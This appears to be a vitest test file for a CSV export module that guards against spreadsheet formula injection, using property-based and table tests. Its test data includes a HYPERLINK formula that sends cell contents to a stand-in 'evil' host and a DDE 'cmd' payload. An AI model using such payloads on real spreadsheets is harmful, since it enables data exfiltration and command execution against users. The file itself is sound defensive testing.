import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { check } from '@/lib/testing/check';
import { RejectedRows, writeRejected } from '../import/read/rejected';
import { writeCsvHeader, writeCsvRows } from './csv';
import { isSignedNumber, safeText } from './csv-texts';
import { ASSIGNMENTS_TABLE } from './shapes';
import type { Cell, TableShape } from './table';

const TABLE: TableShape = {
  name: 'table',
  columns: [
    { name: 'id', type: 'text' },
    { name: 'amount', type: 'number' },
    { name: 'trace', type: 'json' },
  ],
  key: ['id'],
};
const read = (csv: string) => Papa.parse<string[]>(csv, { delimiter: ',', newline: '\n' }).data.slice(0, -1);

const hostile = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 12 }),
  fc
    .array(
      fc.constantFrom(
        '=',
        '+',
        '-',
        '@',
        '\t',
        '\r',
        '\n',
        ';',
        ',',
        '"',
        "'",
        ' ',
        '1',
        'a',
        '＝',
        '\u200b',
        '\ufeff',
      ),
      { maxLength: 8 },
    )
    .map((parts) => parts.join('')),
);
const row = fc.tuple(
  hostile,
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.jsonValue().map((v) => JSON.stringify(v)),
);

describe('CSV of data', () => {
  test('property: reads back exactly, whatever a text begins with', () => {
    check(
      fc.property(fc.array(row, { minLength: 1, maxLength: 5 }), (rows) => {
        expect(read(writeCsvRows(TABLE, rows))).toEqual(rows.map((cells) => cells.map(String)));
      }),
    );
  });

  test('property: where it is to be safe, no cell begins a formula, and numbers and JSON keep their value', () => {
    check(
      fc.property(fc.array(row, { minLength: 1, maxLength: 5 }), (rows) => {
        const csv = writeCsvRows(TABLE, rows, 'safe');
        const cells = read(csv);
        cells.forEach(([text = '', number, json = ''], r) => {
          expect(text).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
          expect(number).toBe(String(rows[r]?.[1]));
          expect(JSON.parse(json)).toEqual(JSON.parse(rows[r]?.[2] as string));
        });
        // Nor where a spreadsheet splits the file at semicolons, as half of Europe's do.
        for (const part of csv.split(/[;\t\r\n]/).slice(1)) {
          expect(isSignedNumber(part) || !/^[=@＝＠]/.test(part)).toBe(true);
        }
      }),
    );
  });

  test('ordinary rows are the same bytes either way', () => {
    const cells: Cell[] = [
      'u_1',
      null,
      30,
      '2025-11-07',
      3,
      'Subscription-Heavy',
      'MEDIUM',
      -5,
      null,
      null,
      null,
      null,
    ];
    const ordinary = [[...cells, 'ASSIGNED', '{"value":-5.00}', '2025-11-07T00:00:00Z']];
    expect(writeCsvRows(ASSIGNMENTS_TABLE, ordinary, 'safe')).toBe(writeCsvRows(ASSIGNMENTS_TABLE, ordinary));
    expect(writeCsvHeader(TABLE)).toBe('id,amount,trace\n');
  });
});

test.each([
  ['=HYPERLINK("http://evil/?x="&A1,"click")', '\'=HYPERLINK("http://evil/?x="&A1,"click")'],
  ['+1+1', "'+1+1"],
  ['-1', "'-1"],
  ['@SUM(1)', "'@SUM(1)"],
  ['\t=1', "'\t'=1"],
  ['\r=1', "'\r'=1"],
  [' =1', "' =1"],
  ['\u200b=1', "'\u200b=1"],
  ['a;=1', "a;'=1"],
  ['a;-12,50;b', 'a;-12,50;b'],
  ['a-b=c@d', 'a-b=c@d'],
  ["O'Brien + sons", "O'Brien + sons"],
  ['', ''],
])('the text %j is safe as %j', (text, safe) => {
  expect(safeText(text)).toBe(safe);
});

test.each(['-5.00', '+1.2 %', '-$3.50', '-1,234.5', '+12 users', '-0.4 points'])('%s is a number', (text) => {
  expect(isSignedNumber(text)).toBe(true);
});
test.each(['-2+3', "-2+cmd|' /C calc'!A0", '+A1', '-1(2)', '=1', '-', '+1!x', '@1'])('%s is none', (text) => {
  expect(isSignedNumber(text)).toBe(false);
});

test('rows left out are safe to look through, and exact where that is asked for', () => {
  const rows = new RejectedRows();
  rows.add('=a.csv', 2, 'amount', '"=1" is not an amount.', '=1,x');
  expect(writeRejected(rows.rows)).toContain('\'=a.csv,2,amount,"""=1"" is not an amount.","\'=1,x"\n');
  expect(writeRejected(rows.rows, 'exact')).toContain(
    '\n=a.csv,2,amount,"""=1"" is not an amount.","=1,x"\n',
  );
});

test('property: lines are those that Papa Parse writes', () => {
  const cell = fc.oneof(hostile, fc.double(), fc.constantFrom(null, '', ' a', 'a ', '\ufeffa', 'a"b', 0));
  check(
    fc.property(
      fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 5 }),
      (rows) => {
        expect(writeCsvRows(TABLE, rows as Cell[][])).toBe(
          `${Papa.unparse(rows as unknown[][], { newline: '\n' })}\n`,
        );
      },
    ),
  );
});
